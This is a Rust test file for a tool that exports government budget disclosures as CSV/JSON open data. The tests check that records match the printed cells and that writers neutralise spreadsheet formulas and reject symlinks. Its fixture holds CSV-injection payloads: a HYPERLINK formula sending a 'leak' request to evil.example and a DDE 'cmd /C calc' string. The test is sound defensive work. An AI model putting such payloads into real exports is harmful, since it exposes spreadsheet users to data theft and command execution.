//! Open data of the example: one record per printed cell, amounts equal to the document's
//! tables, and a datapackage.json whose schema names exactly the CSV's columns.

use std::path::PathBuf;

fn load() -> juesuan_model::Disclosure {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../examples/chifeng-sfj-2024");
    juesuan_load::load_dataset(&dir).expect("example loads")
}

#[test]
fn records_are_the_printed_cells() {
    let d = load();
    let template = juesuan_model::Template::for_year(2024).unwrap();
    let shown = juesuan_report::displayed::displayed(
        &juesuan_report::entity_tables(&d, template),
        template,
    );
    let records = juesuan_opendata::records(&d, false).unwrap();
    let cells: usize = template
        .standard_tables()
        .filter_map(|def| shown.get(&def.id))
        .map(|t| {
            t.rows()
                .iter()
                .map(|r| r.values.iter().flatten().count())
                .sum::<usize>()
        })
        .sum();
    assert_eq!(records.len(), cells);
    for r in &records {
        let v = shown
            .get(&r.table)
            .unwrap()
            .get(&r.row_code, &r.column)
            .unwrap();
        assert_eq!(
            r.amount,
            juesuan_model::Money::from_fen(v).format_wan(),
            "{r:?}"
        );
    }
    let t5 = records
        .iter()
        .find(|r| r.table == "T5" && r.row_code == "2040601" && r.column == "合计")
        .unwrap();
    assert_eq!(
        (t5.amount.as_str(), t5.classification.as_str()),
        ("1030.41", "功能分类")
    );
    assert_eq!(t5.row_name, "行政运行");

    // with units: the department's records plus each unit's
    let all = juesuan_opendata::records(&d, true).unwrap();
    assert!(all.iter().any(|r| r.unit == "jiedusuo"));
    assert!(all.len() > records.len());
}

#[test]
fn package_on_disk_reads_back() {
    let d = load();
    let dir = tempfile::tempdir().unwrap();
    let n = juesuan_opendata::write_dir(&d, dir.path(), true).unwrap();
    let mut csv = csv::Reader::from_path(dir.path().join("cells.csv")).unwrap();
    let header: Vec<String> = csv.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(csv.records().count(), n);
    let pkg: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("datapackage.json")).unwrap())
            .unwrap();
    let fields: Vec<String> = pkg["resources"][0]["schema"]["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(fields, header);
    for res in pkg["resources"].as_array().unwrap() {
        let path = res["path"].as_str().unwrap();
        assert!(dir.path().join(path).is_file(), "{path} listed but missing");
    }
    let json: Vec<serde_json::Value> =
        serde_json::from_slice(&std::fs::read(dir.path().join("cells.json")).unwrap()).unwrap();
    assert_eq!(json.len(), n);
    assert!(
        json[0]["amount"].is_string(),
        "amounts are decimal strings, not floats"
    );
    let codes = std::fs::read_to_string(dir.path().join("codes-functional.csv")).unwrap();
    assert!(codes.contains("2040601,行政运行,项"));
}

/// A disclosure whose names would run as formulas in a spreadsheet (the loader refuses them;
/// the writers must be safe on their own), with one negative amount.
fn hostile() -> juesuan_model::Disclosure {
    let mut d = load();
    d.entity.name = "=HYPERLINK(\"http://evil.example/?leak\",\"点击查看\")".into();
    d.units[0].name = "+cmd|' /C calc'!A0".into();
    d.units[1].name = "@SUM(A1)".into();
    let t6 = d.units[0].tables.get_mut("T6").unwrap();
    t6.set("30101", "决算数", Some(-12_500_000)); // -12.50 万元 (in 分)
    d
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell of the CSV starts like a formula, except a plain number in the amount column.
fn assert_no_formula(bytes: &[u8]) -> usize {
    let rows = csv_rows(bytes);
    let amount = rows[0].iter().position(|h| h == "amount");
    let mut negatives = 0;
    for row in &rows[1..] {
        for (c, cell) in row.iter().enumerate() {
            if Some(c) == amount && cell.starts_with('-') {
                assert!(juesuan_model::safe::is_plain_number(cell), "{cell}");
                negatives += 1;
                continue;
            }
            assert!(
                juesuan_model::safe::formula_start(cell).is_none(),
                "cell {c} starts like a formula: {cell:?}"
            );
        }
    }
    negatives
}

#[test]
fn csv_text_that_looks_like_a_formula_is_quoted_amounts_stay_numbers() {
    let d = hostile();
    // cells.csv of `build` and the portal's CSV download (records with units)
    let cells = juesuan_opendata::to_csv(&juesuan_opendata::records(&d, true).unwrap()).unwrap();
    let text = String::from_utf8(cells.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK("), "{}", &text[..300]);
    assert!(text.contains(",'+cmd|' /C calc'!A0,"));
    assert!(text.contains(",'@SUM(A1),"));
    assert_eq!(assert_no_formula(&cells), 1, "the unit's -12.50 is written");
    assert!(
        text.contains(",-12.50\n"),
        "{}",
        text.lines().find(|l| l.contains("-12.5")).unwrap_or("")
    );
    // `export --format csv`: the long format
    let long = juesuan_opendata::to_csv(&juesuan_opendata::long_records(&d).unwrap()).unwrap();
    let text = String::from_utf8(long.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK("));
    assert!(text.contains(",-12.50,万元\n"));
    assert_eq!(assert_no_formula(&long), 1);
    // JSON keeps the text as it is
    let json = juesuan_opendata::to_json(&juesuan_opendata::long_records(&d).unwrap()).unwrap();
    assert!(String::from_utf8(json)
        .unwrap()
        .contains("\"entity\": \"=HYPERLINK("));
}

#[test]
fn csv_files_on_disk_are_neutralised() {
    let d = hostile();
    let dir = tempfile::tempdir().unwrap();
    juesuan_opendata::write_dir(&d, &dir.path().join("o"), true).unwrap();
    juesuan_opendata::write_long_package(&d, &dir.path().join("p")).unwrap();
    for f in [
        "o/cells.csv",
        "o/codes-functional.csv",
        "o/codes-economic.csv",
        "p/data.csv",
        "p/codes-functional.csv",
        "p/codes-economic.csv",
    ] {
        let bytes = std::fs::read(dir.path().join(f)).unwrap();
        assert_no_formula(&bytes);
    }
    let cells = std::fs::read_to_string(dir.path().join("o/cells.csv")).unwrap();
    assert!(cells.contains("'=HYPERLINK("));
}

#[cfg(unix)]
#[test]
fn writers_do_not_follow_a_link_out_of_their_directory() {
    let d = load();
    let dir = tempfile::tempdir().unwrap();
    let o = dir.path().join("o");
    std::fs::create_dir_all(&o).unwrap();
    let victim = dir.path().join("victim.csv");
    std::fs::write(&victim, "keep").unwrap();
    std::os::unix::fs::symlink(&victim, o.join("cells.csv")).unwrap();
    let e = juesuan_opendata::write_dir(&d, &o, true).unwrap_err();
    assert!(e.contains("不在输出目录"), "{e}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
}
